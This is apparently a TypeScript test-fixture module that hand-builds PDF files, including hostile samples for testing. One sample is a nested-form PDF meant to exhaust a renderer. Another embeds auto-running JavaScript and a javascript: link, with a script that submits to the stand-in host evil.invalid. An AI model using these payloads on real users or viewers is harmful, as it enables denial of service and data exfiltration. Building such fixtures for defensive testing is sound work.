// PDFs written by hand: as many pages as wanted, and what hostile ones hold.

type PdfParts = {
  /** What each page draws, in the language of PDF. */
  pages: readonly string[];
  /** Of each page, in points. */
  box?: string;
  /** Added to the document's root, such as `/OpenAction 9 0 R`. */
  root?: string;
  /** Added to each page, such as `/Annots [<<…>>]`. */
  page?: string;
  /** What pages may draw by name: names and streams with their dictionaries. */
  forms?: readonly { name: string; dictionary: string; stream: string }[];
  /** Added to the trailer. */
  trailer?: string;
};

/** A document of PDF 1.7 with a table of where everything is, as readers want it. */
export function makePdf({
  pages,
  box = "[0 0 595 842]",
  root = "",
  page = "",
  forms = [],
  trailer = "",
}: PdfParts): Buffer {
  const firstPage = 4;
  const firstForm = firstPage + pages.length * 2;
  const named = forms.map(({ name }, at) => `/${name} ${firstForm + at} 0 R`).join(" ");
  const resources = `<< /Font << /F1 3 0 R >> /XObject << ${named} >> >>`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${root} >>`,
    `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, at) => `${firstPage + at * 2} 0 R`).join(" ")}] >>`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
    ...pages.flatMap((content, at) => [
      `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Resources ${resources} /Contents ${firstPage + at * 2 + 1} 0 R ${page} >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ]),
    ...forms.map(
      ({ dictionary, stream }) =>
        `<< /Type /XObject ${dictionary} /Resources ${resources} /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    ),
  ];
  let text = "%PDF-1.7\n";
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

/** A page with a title and a coloured bar. */
export const pdfPage = (words: string): string =>
  `0.36 0.55 0.49 rg 0 742 595 100 re f 0 g BT /F1 28 Tf 60 660 Td (${words}) Tj ET`;

/** Forms that draw each other, ten times each, ten deep: ten thousand million strokes out of a kilobyte. */
export function endlessPdf(): Buffer {
  const depth = 10;
  const forms = Array.from({ length: depth }, (_, level) => ({
    name: `X${level}`,
    dictionary: "/Subtype /Form /BBox [0 0 595 842]",
    stream: level === depth - 1 ? "0 0 m 595 842 l S" : `/X${level + 1} Do `.repeat(10),
  }));
  return makePdf({ pages: ["/X0 Do"], forms });
}

/** Wants to run, to send and to open when it is opened, looked at and clicked. */
export const scriptedPdf = (words: readonly string[]): Buffer => {
  const script = "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.invalid/'\\);) >>";
  const link = "<< /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>";
  return makePdf({
    pages: words.map(pdfPage),
    root: `/OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(x) ${script}] >> >>`,
    page: `/Annots [${link}] /AA << /O ${script} >>`,
  });
};

/** One that asks for a password. */
export const lockedPdf = (): Buffer => {
  const hash = "41".repeat(32);
  return makePdf({
    pages: [pdfPage("Secret")],
    trailer: `/ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <${hash}> /U <${hash}> >>`,
  });
};
